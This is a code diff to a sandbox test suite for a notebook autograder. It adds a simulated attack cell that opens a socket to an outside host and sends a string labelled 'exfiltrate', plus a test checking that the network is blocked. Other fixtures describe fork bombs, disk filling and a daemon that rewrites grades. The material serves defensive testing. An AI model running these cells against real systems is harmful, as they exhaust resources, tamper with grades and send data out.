@@ -10,7 +10,7 @@ notebooks whose cells attack the grader (issue 10, section 5):
 * ex01 t2: starts a detached `setsid` daemon that keeps rewriting grades.csv;
 * ex01 t3: writes 10 GB;
 * ex01 t4: forks until it cannot;
-* ex02 t1: a shell fork bomb.
+* ex02 t1: a shell fork bomb; t2: opens a connection to the internet.
 
 Every attack must fail to change any grade but Mallory's own, and her details must say why.
 The whole module runs `make grade` once (about a minute on two busy cores).
@@ -159,7 +159,12 @@ ATTACK_EX02 = {
         "time.sleep(3)\n"
         "n = len([p for p in os.listdir('/proc') if p.isdigit()])\n"
         "raise RuntimeError(f'fork bomb stopped at {n} processes')\n"
-    )
+    ),
+    "t2-solution": (
+        "import socket\n"
+        "socket.create_connection(('1.1.1.1', 53), timeout=5).sendall(b'exfiltrate')\n"
+        "answer_rfm_codes = {}\n"
+    ),
 }
 
 
@@ -325,6 +330,11 @@ def test_a_fork_bomb_is_capped_and_costs_only_its_author(attacked):
     assert found, text
     assert int(found.group(1)) <= 130  # the run's processes (RLIMIT_NPROC 128) and the sandbox's init
     assert attacked["details"].loc["m003", "score"].sum() == 0
+
+
+def test_there_is_no_network_inside(attacked):
+    text = reason(attacked, "answer_rfm_codes")
+    assert "its cell 7 raised" in text and "Network is unreachable (sandbox: no network)" in text, text
 
 
 def test_grading_refuses_without_bwrap_and_says_how_to_install_it(tmp_path):
